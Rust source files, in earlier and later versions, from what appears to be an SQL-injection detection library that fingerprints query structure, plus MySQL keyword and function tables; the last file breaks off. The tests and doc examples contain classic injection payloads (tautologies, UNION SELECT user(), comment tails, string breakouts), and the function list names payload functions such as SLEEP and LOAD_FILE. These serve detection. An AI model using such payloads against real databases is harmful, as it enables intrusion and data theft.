/// literal contents replaced by `?` and keywords/identifiers normalized.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::fingerprint::skeleton;
///
/// let a = skeleton("SELECT * FROM t WHERE id = 42");
/// let b = skeleton("select  *  from t where id = 99");
/// assert_eq!(a, b);
///
/// let attacked = skeleton("SELECT * FROM t WHERE id = 42 OR 1=1");
/// assert_ne!(a, attacked);
/// ```
pub fn skeleton(query: &str) -> String {
    let tokens = lex(query);
    let mut out = String::with_capacity(query.len());
    for t in tokens {
        if !out.is_empty() {
            out.push(' ');
        }
        match t.kind {
            TokenKind::Number | TokenKind::StringLit => out.push('?'),
            TokenKind::Keyword => out.push_str(&t.text(query).to_ascii_uppercase()),
            TokenKind::Comment => out.push_str("/*c*/"),
            TokenKind::QuotedIdentifier => {
                out.push_str(t.text(query).trim_matches('`'));
            }
            _ => out.push_str(t.text(query)),
        }
    }
    out
}

/// Hashes the [`skeleton`] of a query to a 64-bit fingerprint.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::fingerprint::fingerprint;
///
/// assert_eq!(
///     fingerprint("SELECT * FROM t WHERE id = 1"),
///     fingerprint("SELECT * FROM t WHERE id = 2"),
/// );
/// assert_ne!(
///     fingerprint("SELECT * FROM t WHERE id = 1"),
///     fingerprint("SELECT * FROM t WHERE id = 1 -- x"),
/// );
/// ```
pub fn fingerprint(query: &str) -> u64 {
    let mut h = DefaultHasher::new();
    skeleton(query).hash(&mut h);
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_values_erased() {
        assert_eq!(
            skeleton("SELECT * FROM t WHERE a='x' AND b=1"),
            skeleton("SELECT * FROM t WHERE a='yyyy' AND b=234"),
        );
    }

    #[test]
    fn whitespace_and_case_normalized() {
        assert_eq!(skeleton("select\t*\nfrom t"), skeleton("SELECT * FROM t"),);
    }

    #[test]
    fn identifiers_not_erased() {
        assert_ne!(skeleton("SELECT a FROM t"), skeleton("SELECT b FROM t"),);
    }

    #[test]
    fn injected_tautology_changes_structure() {
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE id=5"),
            fingerprint("SELECT * FROM t WHERE id=5 OR 1=1"),
        );
    }

    #[test]
    fn injected_union_changes_structure() {
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE id=5"),
            fingerprint("SELECT * FROM t WHERE id=-1 UNION SELECT user()"),
        );
    }

    #[test]
    fn injected_comment_changes_structure() {
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE id=5"),
            fingerprint("SELECT * FROM t WHERE id=5 -- tail"),
        );
    }

    #[test]
    fn string_breakout_changes_structure() {
        // Escaping a string literal necessarily introduces new tokens.
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE name='bob'"),
            fingerprint("SELECT * FROM t WHERE name='bob' OR 'a'='a'"),
        );
    }

    #[test]
    fn backticks_normalize() {
        assert_eq!(skeleton("SELECT `id` FROM `t`"), skeleton("SELECT id FROM t"),);
    }

    #[test]
    fn fingerprint_is_deterministic() {
        let q = "SELECT a, b FROM t WHERE x IN (1,2,3) ORDER BY a DESC LIMIT 5";
        assert_eq!(fingerprint(q), fingerprint(q));
    }
}
