//! Query structure fingerprints — the paper's *query structure cache* key.
//!
//! §IV-C1/§VI-A: "the query structure cache caches abstract syntax trees of
//! parsed queries without storing contents of data nodes". A fingerprint is
//! a hash of the token structure of a query with every data literal erased.
//! Two queries share a fingerprint exactly when they differ only in literal
//! *contents*; any injected token (keyword, operator, comment, or an escape
//! out of a string) changes the structure and therefore the fingerprint.
//!
//! The caches in `joza-pti` use fingerprints so that a write query like
//! `INSERT INTO comments VALUES ('…user text…')` only pays full analysis
//! once per *shape*, not once per comment.
//!
//! # List collapsing
//!
//! Benign applications routinely build variable-length literal lists —
//! `WHERE id IN (1,2,3)` from a loop, or multi-row
//! `INSERT … VALUES (…),(…)` batches. If every list length had its own
//! skeleton, the structure cache (and the query models built on top of it
//! in [`crate::template`]) would never converge. [`skeleton`] therefore
//! collapses:
//!
//! * any parenthesized group containing **only** literals and commas to the
//!   canonical form `( ?* )`, and
//! * a run of such collapsed groups following `VALUES` to a single tuple.
//!
//! Collapsing only ever merges *literal-only* regions, so an injected
//! keyword, operator, or comment inside a list still changes the skeleton:
//! `IN (1,2,3)` and `IN (1) OR 1=1` do not collide.

use crate::keywords::canonical;
use crate::lexer::lex;
use crate::symbol::{
    intern, SymId, SYM_COLLAPSED, SYM_COMMA, SYM_COMMENT, SYM_HOLE, SYM_LPAREN, SYM_RPAREN,
    SYM_VALUES,
};
use crate::token::TokenKind;
use std::collections::hash_map::DefaultHasher;
use std::hash::Hasher;

/// The placeholder a literal token renders to in a skeleton.
pub const HOLE: &str = "?";
/// The canonical rendering of a collapsed literal list (`IN (1,2,3)` and
/// `IN (7)` both render their parenthesized part as `( ?* )`).
pub const COLLAPSED: &str = "?*";

/// Renders one token of `query` in skeleton normal form: literals become
/// [`HOLE`], keywords are uppercased, comments collapse to `/*c*/`, quoted
/// identifiers lose their backticks.
pub fn render_token(query: &str, t: &crate::token::Token) -> String {
    match t.kind {
        TokenKind::Number | TokenKind::StringLit => HOLE.to_string(),
        TokenKind::Keyword => t.text(query).to_ascii_uppercase(),
        TokenKind::Comment => "/*c*/".to_string(),
        TokenKind::QuotedIdentifier => t.text(query).trim_matches('`').to_string(),
        _ => t.text(query).to_string(),
    }
}

/// Renders one token of `query` as an interned symbol — the hot-path
/// counterpart of [`render_token`]: byte-identical renderings by
/// construction ([`crate::symbol`] is injective), but a token whose
/// rendering has been seen before (after warmup, all of them) allocates
/// nothing. Keywords render through [`canonical`] so not even the
/// uppercased copy is built.
pub fn render_token_sym(query: &str, t: &crate::token::Token) -> SymId {
    match t.kind {
        TokenKind::Number | TokenKind::StringLit => SYM_HOLE,
        TokenKind::Keyword => match canonical(t.text(query)) {
            Some(c) => intern(c),
            // Unreachable from the lexer (Keyword implies table hit), but
            // stay total for hand-built tokens: match `render_token`.
            None => intern(&t.text(query).to_ascii_uppercase()),
        },
        TokenKind::Comment => SYM_COMMENT,
        TokenKind::QuotedIdentifier => intern(t.text(query).trim_matches('`')),
        _ => intern(t.text(query)),
    }
}

/// Renders the raw (uncollapsed) symbol skeleton of already-lexed
/// `tokens` into `out` — the allocation-free skeleton entry point: `out`
/// is a recycled scratch buffer and every symbol lookup is a hash probe.
pub fn render_skeleton_syms_into(
    query: &str,
    tokens: &[crate::token::Token],
    out: &mut Vec<SymId>,
) {
    out.reserve(tokens.len());
    out.extend(tokens.iter().map(|t| render_token_sym(query, t)));
}

/// The raw symbol skeleton of `query` as a fresh vector (convenience
/// wrapper over [`render_skeleton_syms_into`] for cold paths and tests).
pub fn raw_skeleton_syms(query: &str) -> Vec<SymId> {
    let mut out = Vec::new();
    render_skeleton_syms_into(query, &lex(query), &mut out);
    out
}

/// The skeleton token sequence of `query` **without** list collapsing: one
/// normalized string per lexed token, in order.
///
/// This is the raw form the [`crate::template`] automata match against —
/// matching on uncollapsed tokens keeps star groups aligned with what the
/// application source actually concatenates.
pub fn raw_skeleton_tokens(query: &str) -> Vec<String> {
    render_skeleton(query, &lex(query))
}

/// [`raw_skeleton_tokens`] over an already-lexed token stream — the
/// parse-once entry point: callers that hold the query's tokens (e.g. a
/// `QueryArtifacts` cache) render the skeleton without lexing again.
pub fn render_skeleton(query: &str, tokens: &[crate::token::Token]) -> Vec<String> {
    tokens.iter().map(|t| render_token(query, t)).collect()
}

/// True if `tok` is a skeleton rendering of a data literal.
fn is_hole(tok: &str) -> bool {
    tok == HOLE
}

/// Collapses literal-only parenthesized groups (`( ? , ? , ? )` → `( ?* )`)
/// and then runs of collapsed tuples after `VALUES` to a single tuple.
fn collapse(tokens: Vec<String>) -> Vec<String> {
    // Pass 1: literal-only paren groups become `( ?* )`.
    let mut out: Vec<String> = Vec::with_capacity(tokens.len());
    let mut i = 0;
    while i < tokens.len() {
        if tokens[i] == "(" {
            // Find the matching close paren at depth 0 for this group and
            // check the region is exclusively literals and commas.
            let mut j = i + 1;
            let mut literal_only = false;
            let mut saw_literal = false;
            while j < tokens.len() {
                let t = &tokens[j];
                if t == ")" {
                    literal_only = saw_literal;
                    break;
                }
                if is_hole(t) {
                    saw_literal = true;
                } else if t != "," {
                    break;
                }
                j += 1;
            }
            if literal_only {
                out.push("(".to_string());
                out.push(COLLAPSED.to_string());
                out.push(")".to_string());
                i = j + 1;
                continue;
            }
        }
        out.push(tokens[i].clone());
        i += 1;
    }
    // Pass 2: `VALUES ( ?* ) , ( ?* ) , …` becomes `VALUES ( ?* )`.
    let mut folded: Vec<String> = Vec::with_capacity(out.len());
    let mut i = 0;
    while i < out.len() {
        folded.push(out[i].clone());
        if out[i] == "VALUES" {
            let tuple = |k: usize| {
                out.get(k).map(String::as_str) == Some("(")
                    && out.get(k + 1).map(String::as_str) == Some(COLLAPSED)
                    && out.get(k + 2).map(String::as_str) == Some(")")
            };
            if tuple(i + 1) {
                folded.extend(["(".to_string(), COLLAPSED.to_string(), ")".to_string()]);
                let mut k = i + 4;
                while out.get(k).map(String::as_str) == Some(",") && tuple(k + 1) {
                    k += 4;
                }
                i = k;
                continue;
            }
        }
        i += 1;
    }
    folded
}

/// The skeleton token sequence of `query` with variable-length literal
/// lists collapsed to canonical form (see the module docs).
pub fn skeleton_tokens(query: &str) -> Vec<String> {
    collapse(raw_skeleton_tokens(query))
}

/// List collapsing (`collapse`) over interned symbols: identical
/// two-pass logic, but
/// every comparison is a `u32` equality against the pre-seeded
/// punctuation/hole/`VALUES` constants and nothing is cloned — `out` is
/// a recycled scratch buffer.
pub fn collapse_syms_into(raw: &[SymId], out: &mut Vec<SymId>) {
    // Pass 1: literal-only paren groups become `( ?* )`. Written into
    // `out`, then pass 2 folds `VALUES` tuple runs in place.
    out.reserve(raw.len());
    let mut i = 0;
    while i < raw.len() {
        if raw[i] == SYM_LPAREN {
            let mut j = i + 1;
            let mut literal_only = false;
            let mut saw_literal = false;
            while j < raw.len() {
                let t = raw[j];
                if t == SYM_RPAREN {
                    literal_only = saw_literal;
                    break;
                }
                if t == SYM_HOLE {
                    saw_literal = true;
                } else if t != SYM_COMMA {
                    break;
                }
                j += 1;
            }
            if literal_only {
                out.extend([SYM_LPAREN, SYM_COLLAPSED, SYM_RPAREN]);
                i = j + 1;
                continue;
            }
        }
        out.push(raw[i]);
        i += 1;
    }
    // Pass 2: `VALUES ( ?* ) , ( ?* ) , …` becomes `VALUES ( ?* )`.
    // Compact `out` in place with a write cursor: the kept prefix only
    // ever shrinks, so reads stay ahead of writes.
    let tuple = |v: &[SymId], k: usize| {
        v.get(k) == Some(&SYM_LPAREN)
            && v.get(k + 1) == Some(&SYM_COLLAPSED)
            && v.get(k + 2) == Some(&SYM_RPAREN)
    };
    let mut w = 0;
    let mut i = 0;
    while i < out.len() {
        let s = out[i];
        out[w] = s;
        w += 1;
        i += 1;
        if s == SYM_VALUES && tuple(out, i) {
            out[w] = SYM_LPAREN;
            out[w + 1] = SYM_COLLAPSED;
            out[w + 2] = SYM_RPAREN;
            w += 3;
            let mut k = i + 3;
            while out.get(k) == Some(&SYM_COMMA) && tuple(out, k + 1) {
                k += 4;
            }
            i = k;
        }
    }
    out.truncate(w);
}

/// Hashes a **collapsed** symbol skeleton to a 64-bit fingerprint. This
/// is the single fingerprint definition in the process: the string entry
/// points ([`fingerprint`], [`fingerprint_of`]) intern and collapse into
/// this same hash, so all caches agree. Fingerprints are meaningful only
/// within one process (symbol ids depend on first-seen order).
pub fn fingerprint_collapsed_syms(collapsed: &[SymId]) -> u64 {
    let mut h = DefaultHasher::new();
    for id in collapsed {
        h.write_u32(id.index());
    }
    h.write_usize(collapsed.len());
    h.finish()
}

/// The fingerprint of a **raw** (uncollapsed) symbol skeleton, using
/// `scratch` for the collapsed form — the allocation-free parse-once
/// entry point used by the per-check artifact cache.
pub fn fingerprint_syms_with(raw: &[SymId], scratch: &mut Vec<SymId>) -> u64 {
    scratch.clear();
    collapse_syms_into(raw, scratch);
    fingerprint_collapsed_syms(scratch)
}

/// Renders the structural skeleton of a query: every token in order, with
/// literal contents replaced by `?`, keywords/identifiers normalized, and
/// literal lists collapsed so benign list-length variation shares one
/// skeleton.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::fingerprint::skeleton;
///
/// let a = skeleton("SELECT * FROM t WHERE id = 42");
/// let b = skeleton("select  *  from t where id = 99");
/// assert_eq!(a, b);
///
/// let attacked = skeleton("SELECT * FROM t WHERE id = 42 OR 1=1");
/// assert_ne!(a, attacked);
///
/// // List-length variation collapses…
/// assert_eq!(
///     skeleton("SELECT * FROM t WHERE id IN (1,2,3)"),
///     skeleton("SELECT * FROM t WHERE id IN (7)"),
/// );
/// // …but injected structure does not.
/// assert_ne!(
///     skeleton("SELECT * FROM t WHERE id IN (1,2,3)"),
///     skeleton("SELECT * FROM t WHERE id IN (1) OR 1=1"),
/// );
/// ```
pub fn skeleton(query: &str) -> String {
    skeleton_tokens(query).join(" ")
}

/// The collapsed skeleton string rendered from a raw (uncollapsed)
/// skeleton token sequence — the parse-once counterpart of [`skeleton`].
pub fn skeleton_of(raw: &[String]) -> String {
    collapse(raw.to_vec()).join(" ")
}

/// The 64-bit fingerprint of a raw skeleton token sequence — the
/// parse-once counterpart of [`fingerprint`]: `fingerprint_of(&raw_skeleton_tokens(q))`
/// equals `fingerprint(q)` for every query. Interns each rendering and
/// defers to the symbol-based hash, so string- and symbol-entry callers
/// share one fingerprint space.
pub fn fingerprint_of(raw: &[String]) -> u64 {
    let syms: Vec<SymId> = raw.iter().map(|s| intern(s)).collect();
    fingerprint_syms_with(&syms, &mut Vec::new())
}

/// Hashes the [`skeleton`] of a query to a 64-bit fingerprint.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::fingerprint::fingerprint;
///
/// assert_eq!(
///     fingerprint("SELECT * FROM t WHERE id = 1"),
///     fingerprint("SELECT * FROM t WHERE id = 2"),
/// );
/// assert_ne!(
///     fingerprint("SELECT * FROM t WHERE id = 1"),
///     fingerprint("SELECT * FROM t WHERE id = 1 -- x"),
/// );
/// ```
pub fn fingerprint(query: &str) -> u64 {
    fingerprint_syms_with(&raw_skeleton_syms(query), &mut Vec::new())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_values_erased() {
        assert_eq!(
            skeleton("SELECT * FROM t WHERE a='x' AND b=1"),
            skeleton("SELECT * FROM t WHERE a='yyyy' AND b=234"),
        );
    }

    #[test]
    fn whitespace_and_case_normalized() {
        assert_eq!(skeleton("select\t*\nfrom t"), skeleton("SELECT * FROM t"),);
    }

    #[test]
    fn identifiers_not_erased() {
        assert_ne!(skeleton("SELECT a FROM t"), skeleton("SELECT b FROM t"),);
    }

    #[test]
    fn injected_tautology_changes_structure() {
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE id=5"),
            fingerprint("SELECT * FROM t WHERE id=5 OR 1=1"),
        );
    }

    #[test]
    fn injected_union_changes_structure() {
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE id=5"),
            fingerprint("SELECT * FROM t WHERE id=-1 UNION SELECT user()"),
        );
    }

    #[test]
    fn injected_comment_changes_structure() {
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE id=5"),
            fingerprint("SELECT * FROM t WHERE id=5 -- tail"),
        );
    }

    #[test]
    fn string_breakout_changes_structure() {
        // Escaping a string literal necessarily introduces new tokens.
        assert_ne!(
            fingerprint("SELECT * FROM t WHERE name='bob'"),
            fingerprint("SELECT * FROM t WHERE name='bob' OR 'a'='a'"),
        );
    }

    #[test]
    fn backticks_normalize() {
        assert_eq!(skeleton("SELECT `id` FROM `t`"), skeleton("SELECT id FROM t"),);
    }

    #[test]
    fn fingerprint_is_deterministic() {
        let q = "SELECT a, b FROM t WHERE x IN (1,2,3) ORDER BY a DESC LIMIT 5";
        assert_eq!(fingerprint(q), fingerprint(q));
    }

    #[test]
    fn in_list_lengths_collapse() {
        let one = skeleton("SELECT * FROM t WHERE id IN (7)");
        let three = skeleton("SELECT * FROM t WHERE id IN (1,2,3)");
        let many = skeleton("SELECT * FROM t WHERE id IN (1,2,3,4,5,6,7,8)");
        assert_eq!(one, three);
        assert_eq!(three, many);
        assert!(one.contains("( ?* )"), "canonical form expected, got {one:?}");
    }

    #[test]
    fn loop_built_trailing_comma_list_collapses() {
        // `$frag .= $id . ","` style loops emit a trailing comma.
        assert_eq!(
            skeleton("SELECT * FROM t WHERE id IN (1,2,3,)"),
            skeleton("SELECT * FROM t WHERE id IN (9,)"),
        );
    }

    #[test]
    fn values_tuple_runs_collapse() {
        let one = skeleton("INSERT INTO t (a,b) VALUES (1,'x')");
        let two = skeleton("INSERT INTO t (a,b) VALUES (1,'x'),(2,'y')");
        let four = skeleton("INSERT INTO t (a,b) VALUES (1,'x'),(2,'y'),(3,'z'),(4,'w')");
        assert_eq!(one, two);
        assert_eq!(two, four);
    }

    #[test]
    fn column_list_not_collapsed_into_values_run() {
        // `(a,b)` is identifiers, not literals: it must stay distinct.
        assert_ne!(
            skeleton("INSERT INTO t (a,b) VALUES (1,2)"),
            skeleton("INSERT INTO t VALUES (1,2)"),
        );
    }

    #[test]
    fn union_inside_in_list_still_changes_skeleton() {
        assert_ne!(
            skeleton("SELECT * FROM t WHERE id IN (1,2,3)"),
            skeleton("SELECT * FROM t WHERE id IN (1,2,(SELECT user()))"),
        );
    }

    #[test]
    fn tautology_after_in_list_still_changes_skeleton() {
        assert_ne!(
            skeleton("SELECT * FROM t WHERE id IN (1,2,3)"),
            skeleton("SELECT * FROM t WHERE id IN (1) OR 1=1"),
        );
    }

    #[test]
    fn values_injection_still_changes_skeleton() {
        assert_ne!(
            skeleton("INSERT INTO t VALUES (1,'x')"),
            skeleton("INSERT INTO t VALUES (1,'x'),(2,(SELECT user()))"),
        );
    }

    #[test]
    fn raw_tokens_do_not_collapse() {
        let raw = raw_skeleton_tokens("SELECT * FROM t WHERE id IN (1,2)");
        assert!(raw.iter().filter(|t| *t == HOLE).count() == 2);
        assert!(!raw.iter().any(|t| t == COLLAPSED));
    }

    #[test]
    fn empty_parens_untouched() {
        assert_eq!(skeleton("SELECT now()"), "SELECT now ( )");
    }

    #[test]
    fn sym_skeleton_agrees_with_string_skeleton() {
        let queries = [
            "SELECT * FROM t WHERE id IN (1,2,3)",
            "INSERT INTO t (a,b) VALUES (1,'x'),(2,'y'),(3,'z')",
            "INSERT INTO t VALUES (1),(2),(3),(4)",
            "SELECT `id` FROM t WHERE name='bob' -- tail",
            "SELECT now()",
            "select Union UNION union",
            "VALUES",
            "VALUES (1,2),(3)",
            "VALUES (1),(a)",
            "",
        ];
        for q in queries {
            // Raw renderings are byte-identical.
            let raw_syms = raw_skeleton_syms(q);
            assert_eq!(crate::symbol::resolve_all(&raw_syms), raw_skeleton_tokens(q), "{q}");
            // Collapse logic agrees token-for-token.
            let mut collapsed = Vec::new();
            collapse_syms_into(&raw_syms, &mut collapsed);
            assert_eq!(crate::symbol::resolve_all(&collapsed), skeleton_tokens(q), "{q}");
            // And the two fingerprint entry points share one hash space.
            assert_eq!(fingerprint_of(&raw_skeleton_tokens(q)), fingerprint(q), "{q}");
        }
    }

    #[test]
    fn collapse_syms_reuses_scratch() {
        let raw = raw_skeleton_syms("SELECT * FROM t WHERE id IN (1,2,3)");
        let mut scratch = Vec::new();
        let fp1 = fingerprint_syms_with(&raw, &mut scratch);
        let cap = scratch.capacity();
        let fp2 = fingerprint_syms_with(&raw, &mut scratch);
        assert_eq!(fp1, fp2);
        assert_eq!(scratch.capacity(), cap, "scratch must be recycled, not regrown");
    }

    #[test]
    fn token_reusing_variants_agree_with_string_entry_points() {
        let queries = [
            "SELECT * FROM t WHERE id IN (1,2,3)",
            "INSERT INTO t (a,b) VALUES (1,'x'),(2,'y')",
            "SELECT `id` FROM t WHERE name='bob' -- tail",
            "",
        ];
        for q in queries {
            let toks = lex(q);
            let raw = render_skeleton(q, &toks);
            assert_eq!(raw, raw_skeleton_tokens(q), "{q}");
            assert_eq!(skeleton_of(&raw), skeleton(q), "{q}");
            assert_eq!(fingerprint_of(&raw), fingerprint(q), "{q}");
        }
    }
}
