//! MySQL keyword and built-in function tables.

/// Reserved and significant MySQL keywords, uppercase, sorted for binary
/// search. This list follows the MySQL 5.x grammar the paper's WordPress
/// testbed runs against, restricted to words that matter syntactically.
pub static KEYWORDS: &[&str] = &[
    "ALL",
    "ALTER",
    "AND",
    "AS",
    "ASC",
    "BEGIN",
    "BENCHMARK",
    "BETWEEN",
    "BY",
    "CASE",
    "COLLATE",
    "COMMIT",
    "CREATE",
    "CROSS",
    "DATABASE",
    "DEFAULT",
    "DELETE",
    "DESC",
    "DISTINCT",
    "DIV",
    "DROP",
    "ELSE",
    "END",
    "ESCAPE",
    "EXISTS",
    "FALSE",
    "FOR",
    "FROM",
    "GROUP",
    "HAVING",
    "IN",
    "INNER",
    "INSERT",
    "INTERVAL",
    "INTO",
    "IS",
    "JOIN",
    "KEY",
    "LEFT",
    "LIKE",
    "LIMIT",
    "LOCK",
    "MOD",
    "NOT",
    "NULL",
    "OFFSET",
    "ON",
    "OR",
    "ORDER",
    "OUTER",
    "OUTFILE",
    "PRIMARY",
    "PROCEDURE",
    "REGEXP",
    "REPLACE",
    "RIGHT",
    "RLIKE",
    "ROLLBACK",
    "SELECT",
    "SET",
    "SHOW",
    "TABLE",
    "THEN",
    "TRUE",
    "TRUNCATE",
    "UNION",
    "UPDATE",
    "USING",
    "VALUES",
    "WHEN",
    "WHERE",
    "XOR",
];

/// Built-in MySQL function names (uppercase, sorted) that commonly appear
/// in injection payloads or WordPress queries. Used to classify
/// `name(`-style calls; unknown call targets are *also* treated as
/// functions by the critical-token policy since attackers may invoke any
/// function.
pub static BUILTIN_FUNCTIONS: &[&str] = &[
    "ABS",
    "ASCII",
    "AVG",
    "BENCHMARK",
    "CAST",
    "CHAR",
    "CHAR_LENGTH",
    "COALESCE",
    "CONCAT",
    "CONCAT_WS",
    "CONVERT",
    "COUNT",
    "CURRENT_USER",
    "DATABASE",
    "EXTRACTVALUE",
    "FLOOR",
    "GROUP_CONCAT",
    "HEX",
    "IF",
    "IFNULL",
    "INSTR",
    "LENGTH",
    "LOAD_FILE",
    "LOWER",
    "LPAD",
    "MAX",
    "MD5",
    "MID",
    "MIN",
    "NOW",
    "ORD",
    "RAND",
    "REPLACE",
    "ROUND",
    "RPAD",
    "SCHEMA",
    "SLEEP",
    "SUBSTR",
    "SUBSTRING",
    "SUM",
    "TRIM",
    "UNHEX",
    "UPDATEXML",
    "UPPER",
    "USER",
    "USERNAME",
    "VERSION",
];

/// Returns `true` if `word` (any case) is a reserved SQL keyword.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::keywords::is_keyword;
///
/// assert!(is_keyword("select"));
/// assert!(is_keyword("UNION"));
/// assert!(!is_keyword("wp_posts"));
/// ```
pub fn is_keyword(word: &str) -> bool {
    lookup(KEYWORDS, word)
}

/// Returns `true` if `word` (any case) is a known built-in function name.
pub fn is_builtin_function(word: &str) -> bool {
    lookup(BUILTIN_FUNCTIONS, word)
}

fn lookup(table: &[&str], word: &str) -> bool {
    if word.len() > 24 {
        return false;
    }
    let upper = word.to_ascii_uppercase();
    table.binary_search(&upper.as_str()).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tables_are_sorted_and_unique() {
        for table in [KEYWORDS, BUILTIN_FUNCTIONS] {
            for w in table.windows(2) {
                assert!(w[0] < w[1], "{} >= {}", w[0], w[1]);
            }
        }
    }

    #[test]
    fn keyword_lookup_case_insensitive() {
        assert!(is_keyword("Union"));
        assert!(is_keyword("uNiOn"));
        assert!(is_keyword("where"));
        assert!(!is_keyword(""));
        assert!(!is_keyword("unions"));
    }

    #[test]
    fn function_lookup() {
        assert!(is_builtin_function("sleep"));
        assert!(is_builtin_function("CHAR"));
        assert!(is_builtin_function("group_concat"));
        assert!(!is_builtin_function("my_custom_fn"));
    }

    #[test]
    fn long_words_rejected_quickly() {
        assert!(!is_keyword(&"a".repeat(100)));
    }
}
