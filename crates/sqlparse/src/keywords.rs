//! MySQL keyword and built-in function tables.

/// Reserved and significant MySQL keywords, uppercase, sorted for binary
/// search. This list follows the MySQL 5.x grammar the paper's WordPress
/// testbed runs against, restricted to words that matter syntactically.
pub static KEYWORDS: &[&str] = &[
    "ALL",
    "ALTER",
    "AND",
    "AS",
    "ASC",
    "BEGIN",
    "BENCHMARK",
    "BETWEEN",
    "BY",
    "CASE",
    "COLLATE",
    "COMMIT",
    "CREATE",
    "CROSS",
    "DATABASE",
    "DEFAULT",
    "DELETE",
    "DESC",
    "DISTINCT",
    "DIV",
    "DROP",
    "ELSE",
    "END",
    "ESCAPE",
    "EXISTS",
    "FALSE",
    "FOR",
    "FROM",
    "GROUP",
    "HAVING",
    "IN",
    "INNER",
    "INSERT",
    "INTERVAL",
    "INTO",
    "IS",
    "JOIN",
    "KEY",
    "LEFT",
    "LIKE",
    "LIMIT",
    "LOCK",
    "MOD",
    "NOT",
    "NULL",
    "OFFSET",
    "ON",
    "OR",
    "ORDER",
    "OUTER",
    "OUTFILE",
    "PRIMARY",
    "PROCEDURE",
    "REGEXP",
    "REPLACE",
    "RIGHT",
    "RLIKE",
    "ROLLBACK",
    "SELECT",
    "SET",
    "SHOW",
    "TABLE",
    "THEN",
    "TRUE",
    "TRUNCATE",
    "UNION",
    "UPDATE",
    "USING",
    "VALUES",
    "WHEN",
    "WHERE",
    "XOR",
];

/// Built-in MySQL function names (uppercase, sorted) that commonly appear
/// in injection payloads or WordPress queries. Used to classify
/// `name(`-style calls; unknown call targets are *also* treated as
/// functions by the critical-token policy since attackers may invoke any
/// function.
pub static BUILTIN_FUNCTIONS: &[&str] = &[
    "ABS",
    "ASCII",
    "AVG",
    "BENCHMARK",
    "CAST",
    "CHAR",
    "CHAR_LENGTH",
    "COALESCE",
    "CONCAT",
    "CONCAT_WS",
    "CONVERT",
    "COUNT",
    "CURRENT_USER",
    "DATABASE",
    "EXTRACTVALUE",
    "FLOOR",
    "GROUP_CONCAT",
    "HEX",
    "IF",
    "IFNULL",
    "INSTR",
    "LENGTH",
    "LOAD_FILE",
    "LOWER",
    "LPAD",
    "MAX",
    "MD5",
    "MID",
    "MIN",
    "NOW",
    "ORD",
    "RAND",
    "REPLACE",
    "ROUND",
    "RPAD",
    "SCHEMA",
    "SLEEP",
    "SUBSTR",
    "SUBSTRING",
    "SUM",
    "TRIM",
    "UNHEX",
    "UPDATEXML",
    "UPPER",
    "USER",
    "USERNAME",
    "VERSION",
];

/// Returns `true` if `word` (any case) is a reserved SQL keyword.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::keywords::is_keyword;
///
/// assert!(is_keyword("select"));
/// assert!(is_keyword("UNION"));
/// assert!(!is_keyword("wp_posts"));
/// ```
pub fn is_keyword(word: &str) -> bool {
    lookup(KEYWORDS, word).is_some()
}

/// Returns `true` if `word` (any case) is a known built-in function name.
pub fn is_builtin_function(word: &str) -> bool {
    lookup(BUILTIN_FUNCTIONS, word).is_some()
}

/// The canonical (uppercase, `'static`) spelling of `word` if it is a
/// reserved keyword — the allocation-free way to render a keyword token
/// into skeleton normal form: the table entry *is* the uppercased text.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::keywords::canonical;
///
/// assert_eq!(canonical("select"), Some("SELECT"));
/// assert_eq!(canonical("UnIoN"), Some("UNION"));
/// assert_eq!(canonical("wp_posts"), None);
/// ```
pub fn canonical(word: &str) -> Option<&'static str> {
    lookup(KEYWORDS, word)
}

/// Case-insensitive binary search without uppercasing a copy of `word`:
/// the tables are sorted by their (uppercase) bytes, so comparing each
/// byte of `word` ASCII-uppercased on the fly preserves the order.
fn lookup(table: &'static [&'static str], word: &str) -> Option<&'static str> {
    if word.len() > 24 || word.is_empty() {
        return None;
    }
    let idx = table
        .binary_search_by(|entry| {
            let mut ours = entry.bytes();
            let mut theirs = word.bytes().map(|b| b.to_ascii_uppercase());
            loop {
                match (ours.next(), theirs.next()) {
                    (None, None) => return std::cmp::Ordering::Equal,
                    (a, b) => match a.cmp(&b) {
                        std::cmp::Ordering::Equal => continue,
                        other => return other,
                    },
                }
            }
        })
        .ok()?;
    Some(table[idx])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tables_are_sorted_and_unique() {
        for table in [KEYWORDS, BUILTIN_FUNCTIONS] {
            for w in table.windows(2) {
                assert!(w[0] < w[1], "{} >= {}", w[0], w[1]);
            }
        }
    }

    #[test]
    fn keyword_lookup_case_insensitive() {
        assert!(is_keyword("Union"));
        assert!(is_keyword("uNiOn"));
        assert!(is_keyword("where"));
        assert!(!is_keyword(""));
        assert!(!is_keyword("unions"));
    }

    #[test]
    fn function_lookup() {
        assert!(is_builtin_function("sleep"));
        assert!(is_builtin_function("CHAR"));
        assert!(is_builtin_function("group_concat"));
        assert!(!is_builtin_function("my_custom_fn"));
    }

    #[test]
    fn long_words_rejected_quickly() {
        assert!(!is_keyword(&"a".repeat(100)));
    }

    #[test]
    fn canonical_matches_uppercase_rendering() {
        // The skeleton renderer relies on `canonical(w)` being exactly
        // `w.to_ascii_uppercase()` for every keyword, in any input case.
        for kw in KEYWORDS {
            assert_eq!(canonical(kw), Some(*kw));
            assert_eq!(canonical(&kw.to_ascii_lowercase()), Some(*kw));
        }
        assert_eq!(canonical("sElEcT"), Some("SELECT"));
        assert_eq!(canonical(""), None);
        assert_eq!(canonical("selects"), None);
        assert_eq!(canonical("sele"), None);
    }
}
