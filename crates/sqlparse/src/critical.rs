//! Critical-token classification.
//!
//! The threat model (§II): "An SQL injection occurs when attacker-controlled
//! inputs are interpreted as SQL keywords, built-in functions, or
//! delimiters, or when they change the programmer-intended syntactic
